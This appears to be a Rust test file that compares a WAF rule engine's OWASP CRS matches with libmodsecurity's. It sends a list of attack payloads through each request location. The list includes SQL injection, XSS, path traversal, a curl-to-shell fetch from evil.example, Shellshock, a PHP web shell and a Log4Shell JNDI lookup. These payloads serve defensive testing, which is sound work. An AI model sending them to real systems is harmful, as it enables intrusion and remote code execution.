//! The same requests through libmodsecurity and through us: the same rules match.
//!
//! Runs where libmodsecurity, its headers, a C compiler and OWASP CRS are installed. What differs is
//! listed in [`KNOWN`] with the reason; a difference that is not listed fails the test, and so does a
//! listed one that is gone. `VIGIL_CRS_REQUESTS` names a file of further requests, in the form that
//! `bench/modsecurity/requests.c` reads, and `VIGIL_CRS_DIR` another CRS: differences are printed.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::path::Path;
use std::process::{Command, Stdio};

use vigil_decode::whole::{Told, write};
use vigil_decode::{Decoder, Format, Proxies, parse};
use vigil_event::whole::Pair;
use vigil_event::{Event, Record, Timestamp};
use vigil_rule::seclang::{SecRules, SecScratch};

/// A request as both sides get it.
#[derive(Clone, Debug, Default)]
pub(crate) struct Sent {
    pub(crate) method: Vec<u8>,
    pub(crate) target: Vec<u8>,
    pub(crate) version: Vec<u8>,
    pub(crate) client: Vec<u8>,
    pub(crate) headers: Vec<Pair>,
    pub(crate) body: Vec<u8>,
}

/// Requests in the form of `requests.c`.
fn read(mut bytes: &[u8]) -> Vec<Sent> {
    fn line<'a>(bytes: &mut &'a [u8]) -> &'a [u8] {
        let end = bytes.iter().position(|byte| *byte == b'\n').unwrap();
        let line = &bytes[..end];
        *bytes = &bytes[end + 1..];
        line
    }
    let number = |line: &[u8]| std::str::from_utf8(line).unwrap().parse::<usize>().unwrap();
    let mut all = Vec::new();
    while !bytes.is_empty() {
        let mut sent = Sent {
            method: line(&mut bytes).to_vec(),
            target: line(&mut bytes).to_vec(),
            version: line(&mut bytes).to_vec(),
            client: line(&mut bytes).to_vec(),
            ..Sent::default()
        };
        for _ in 0..number(line(&mut bytes)) {
            let name = line(&mut bytes);
            sent.headers.push(Pair::new(name, line(&mut bytes)));
        }
        let length = number(line(&mut bytes));
        sent.body = bytes[..length].to_vec();
        bytes = &bytes[length + 1..];
        all.push(sent);
    }
    all
}

pub(crate) fn event(sent: &Sent) -> Event {
    let mut bytes = Vec::new();
    let told = Told {
        client: std::str::from_utf8(&sent.client).unwrap().parse().ok(),
        occurred_at: None,
        method: &sent.method,
        target: &sent.target,
        version: &sent.version,
        headers: &sent.headers,
        body: &sent.body,
    };
    write(&mut bytes, &told);
    let record = Record::of(&bytes);
    let proxies = Proxies::new(Vec::new());
    let request = parse(
        &mut bytes,
        &record,
        Format::Request,
        &proxies,
        Timestamp::default(),
    );
    let mut event = Event::new();
    Decoder::new().decode(&bytes, &record, &request.unwrap(), &mut event);
    event
}

fn ours(rules: &SecRules, requests: &[Sent]) -> Vec<BTreeSet<u32>> {
    let mut scratch = SecScratch::default();
    let mut found = |sent: &Sent| {
        let mut hits = Vec::new();
        rules.evaluate(&event(sent), &mut scratch, &mut hits);
        let ids = hits.iter().map(|hit| {
            let id = &rules.rules()[hit.rule].id;
            id.trim_start_matches("crs:").parse().unwrap()
        });
        ids.collect()
    };
    let first: Vec<BTreeSet<u32>> = requests.iter().map(&mut found).collect();
    // From the third time on what matters of a request is known.
    for _ in 1..4 {
        assert!(requests.iter().map(&mut found).eq(first.iter().cloned()));
    }
    first
}

/// Differences that are understood, by rule: whether libmodsecurity alone finds it, and why.
const KNOWN: [(u32, &str); 2] = [
    (
        942_130,
        "its pattern needs a backreference and is not loaded",
    ),
    (
        933_160,
        "libmodsecurity 3.0.9 undoes `%3F` before it parts the path from the query, and so does not \
         see all of the path (CVE-2024-1019)",
    ),
];

/// What attackers send, each tried in every place.
const PAYLOADS: [&str; 22] = [
    "1' or '1'='1",
    "1 UNION SELECT username, password FROM users-- -",
    "'; DROP TABLE users; --",
    "1 and sleep(5)",
    "admin'/*",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "<svg/onload=alert`1`>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "; cat /etc/passwd",
    "$(curl http://evil.example/x.sh|sh)",
    "`id`",
    "() { :;}; /bin/bash -c id",
    "http://evil.example/shell.txt?",
    "<?php system($_GET[0]); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "${jndi:ldap://evil.example/a}",
    "java.lang.Runtime",
    "%0d%0aSet-Cookie: a=b",
    "q=garden chairs & tables, 20% off!",
];

fn percent(text: &str) -> String {
    let mut made = String::new();
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() || b"-._~/".contains(&byte) {
            made.push(char::from(byte));
        } else {
            write!(made, "%{byte:02X}").unwrap();
        }
    }
    made
}

/// Each payload in the query, the path, a form, JSON, a part, a cookie and headers, and what is odd by
/// itself.
fn requests() -> Vec<Sent> {
    let mut all = Vec::new();
    for payload in PAYLOADS {
        let encoded = percent(payload);
        let json = format!("{{\"a\": [{}]}}", serde_json::Value::from(payload));
        let part = format!(
            "--XX\r\nContent-Disposition: form-data; name=\"p\"\r\n\r\n{payload}\r\n--XX--\r\n"
        );
        let form = "application/x-www-form-urlencoded";
        all.push(sent("GET", &format!("/?id={encoded}"), &[], ""));
        all.push(sent("GET", &format!("/?{encoded}=1"), &[], ""));
        all.push(sent("GET", &format!("/a/{encoded}"), &[], ""));
        all.push(sent(
            "POST",
            "/form",
            &[("Content-Type", form)],
            &format!("a=b&id={encoded}"),
        ));
        all.push(sent(
            "POST",
            "/json",
            &[("Content-Type", "application/json")],
            &json,
        ));
        all.push(sent(
            "POST",
            "/part",
            &[("Content-Type", "multipart/form-data; boundary=XX")],
            &part,
        ));
        all.push(sent(
            "GET",
            "/",
            &[("Cookie", &format!("a=b; c={payload}"))],
            "",
        ));
        all.push(sent(
            "GET",
            "/",
            &[("User-Agent", payload), ("Referer", payload)],
            "",
        ));
        all.push(sent("GET", "/", &[("X-Other", payload)], ""));
    }
    all.extend(odd_requests());
    all
}

/// What is odd by itself.
fn odd_requests() -> impl Iterator<Item = Sent> {
    let xml = "<?xml version=\"1.0\"?><a b=\"' or 1=1--\"><c>&lt;script&gt;alert(1)&lt;/script&gt;</c></a>";
    let odd = [
        ("POST", "/xml", &[("Content-Type", "text/xml")][..], xml),
        (
            "POST",
            "/xml",
            &[("Content-Type", "application/soap+xml")],
            "<a>1 UNION SELECT username, password FROM users-- -",
        ),
        ("TRACE", "/", &[], ""),
        ("GET", "/%zz?%u0041&a=%00", &[], ""),
        ("GET", "/.git/config", &[], ""),
        ("GET", "/backup.sql~", &[], ""),
        ("GET", "/", &[("User-Agent", "sqlmap/1.8")], ""),
        (
            "GET",
            "/",
            &[("Range", "bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7")],
            "",
        ),
        ("GET", "/?a=1&a=2&a=3", &[("Content-Length", "3")], "a=b"),
        ("POST", "/", &[("Content-Type", "text/evil")], "a=b"),
        (
            "GET",
            "/?a[]=1&a[]=2;b=3&c=%e9&d=\u{e9}",
            &[("Accept", "")],
            "",
        ),
        (
            "GET",
            "/page.html?utm_source=mail&lang=de-DE",
            &[("Cookie", "session=4f6d2a; theme=dark")],
            "",
        ),
    ];
    odd.into_iter()
        .map(|(method, target, headers, body)| sent(method, target, headers, body))
}

/// A request as browsers send it, but for what is said.
fn sent(method: &str, target: &str, headers: &[(&str, &str)], body: &str) -> Sent {
    let given = |name: &str| {
        headers
            .iter()
            .any(|(own, _)| own.eq_ignore_ascii_case(name))
    };
    let length = body.len().to_string();
    let usual = [
        ("Host", "shop.example", true),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
            true,
        ),
        ("Accept", "text/html,*/*;q=0.8", true),
        ("Content-Length", &length, !body.is_empty()),
    ];
    let usual = usual
        .iter()
        .filter(|(name, _, wanted)| *wanted && !given(name));
    let usual = usual.map(|(name, value, _)| (*name, *value));
    Sent {
        method: method.as_bytes().to_vec(),
        target: target.as_bytes().to_vec(),
        version: b"1.1".to_vec(),
        client: b"203.0.113.9".to_vec(),
        headers: usual
            .chain(headers.iter().copied())
            .map(|(name, value)| Pair::new(name.as_bytes(), value.as_bytes()))
            .collect(),
        body: body.as_bytes().to_vec(),
    }
}

/// In the form of `requests.c`.
fn framed(requests: &[Sent]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for sent in requests {
        for part in [&sent.method, &sent.target, &sent.version, &sent.client] {
            bytes.extend_from_slice(part);
            bytes.push(b'\n');
        }
        bytes.extend_from_slice(format!("{}\n", sent.headers.len()).as_bytes());
        for part in sent
            .headers
            .iter()
            .flat_map(|pair| [&pair.name, &pair.value])
        {
            bytes.extend_from_slice(part);
            bytes.push(b'\n');
        }
        bytes.extend_from_slice(format!("{}\n", sent.body.len()).as_bytes());
        bytes.extend_from_slice(&sent.body);
        bytes.push(b'\n');
    }
    bytes
}

/// What libmodsecurity finds, or none where it is not installed.
fn theirs(frames: &[u8], paranoia: u8, crs: &Path) -> Option<Vec<BTreeSet<u32>>> {
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../bench/modsecurity");
    if !Path::new("/usr/include/modsecurity/modsecurity.h").is_file() {
        return None;
    }
    let directory = tempfile::tempdir().unwrap();
    let program = directory.path().join("requests");
    let built = Command::new("cc")
        .arg("-w")
        .arg("-o")
        .arg(&program)
        .arg(source.join("requests.c"))
        .arg("-lmodsecurity")
        .status();
    if !built.is_ok_and(|status| status.success()) {
        return None;
    }
    let base = fs_err::read_to_string(source.join("base.conf")).unwrap();
    let own = crs.join("crs-setup.conf.example");
    let setup = if own.is_file() {
        own
    } else {
        crate::crs::SETUP.into()
    };
    let level = format!(
        "tx.paranoia_level={paranoia},setvar:tx.executing_paranoia_level={paranoia},setvar:tx.blocking_paranoia_level={paranoia},setvar:tx.detection_paranoia_level={paranoia}"
    );
    let text = format!(
        "{base}\nSecAction \"id:900001,phase:1,pass,nolog,setvar:{level}\"\nInclude {}\nInclude {}/rules/*.conf\n",
        setup.display(),
        crs.display()
    );
    let rules = directory.path().join("rules.conf");
    fs_err::write(&rules, text).unwrap();
    let requests = directory.path().join("frames");
    fs_err::write(&requests, frames).unwrap();
    let output = Command::new(&program)
        .arg(&rules)
        .stdin(Stdio::from(std::fs::File::open(&requests).unwrap()))
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let text = String::from_utf8(output.stdout).unwrap();
    let ids = |line: &str| {
        line.split_whitespace()
            .map(|id| id.parse().unwrap())
            .collect()
    };
    Some(text.lines().map(ids).collect())
}

/// The differences: rule, whether we alone find it, and the request's place.
fn differences(requests: &[Sent], paranoia: u8, crs: &Path) -> Option<Vec<(u32, bool, usize)>> {
    let theirs = theirs(&framed(requests), paranoia, crs)?;
    let rules = SecRules::load(&crate::crs::tree(crs), Some(paranoia)).unwrap();
    let ours = ours(&rules, requests);
    assert_eq!(theirs.len(), ours.len());
    // Those that add up scores are not looked for.
    let counts = |id: &&u32| !(949_000..950_000).contains(*id) && !(200_000..210_000).contains(*id);
    let mut found = Vec::new();
    for (place, (theirs, ours)) in theirs.iter().zip(&ours).enumerate() {
        found.extend(
            theirs
                .difference(ours)
                .filter(counts)
                .map(|id| (*id, false, place)),
        );
        found.extend(
            ours.difference(theirs)
                .filter(counts)
                .map(|id| (*id, true, place)),
        );
    }
    Some(found)
}

#[test]
fn the_same_rules_match_as_in_libmodsecurity() {
    let crs = Path::new("/usr/share/modsecurity-crs");
    if !crs.is_dir() {
        return;
    }
    let requests = requests();
    let mut known = BTreeSet::new();
    for paranoia in [1, 2, 4] {
        let Some(found) = differences(&requests, paranoia, crs) else {
            return;
        };
        let (understood, unknown): (Vec<_>, Vec<_>) = found
            .into_iter()
            .partition(|(id, _, _)| KNOWN.iter().any(|(known, _)| known == id));
        known.extend(understood.into_iter().map(|(id, _, _)| id));
        let shown: Vec<_> = unknown
            .iter()
            .map(|(id, alone, place)| {
                format!(
                    "{id} {} {:?}",
                    if *alone { "only here" } else { "only there" },
                    String::from_utf8_lossy(&framed(&requests[*place..=*place]))
                )
            })
            .collect();
        assert!(shown.is_empty(), "at paranoia level {paranoia}: {shown:#?}");
    }
    assert_eq!(
        known.len(),
        KNOWN.len(),
        "a known difference is gone: take it out of the list"
    );
}

#[test]
fn further_requests_are_compared_where_they_are_named() {
    let Ok(file) = std::env::var("VIGIL_CRS_REQUESTS") else {
        return;
    };
    let crs =
        std::env::var("VIGIL_CRS_DIR").unwrap_or_else(|_| "/usr/share/modsecurity-crs".into());
    let requests = read(&fs_err::read(file).unwrap());
    for paranoia in [1, 4] {
        let found = differences(&requests, paranoia, Path::new(&crs)).unwrap();
        let requests_with: BTreeSet<usize> = found.iter().map(|(_, _, place)| *place).collect();
        eprintln!(
            "level {paranoia}: {} of {} requests the same",
            requests.len() - requests_with.len(),
            requests.len()
        );
        for (id, alone, place) in found {
            eprintln!(
                "{id} {} in request {place}",
                if alone { "only here" } else { "only there" }
            );
        }
    }
}
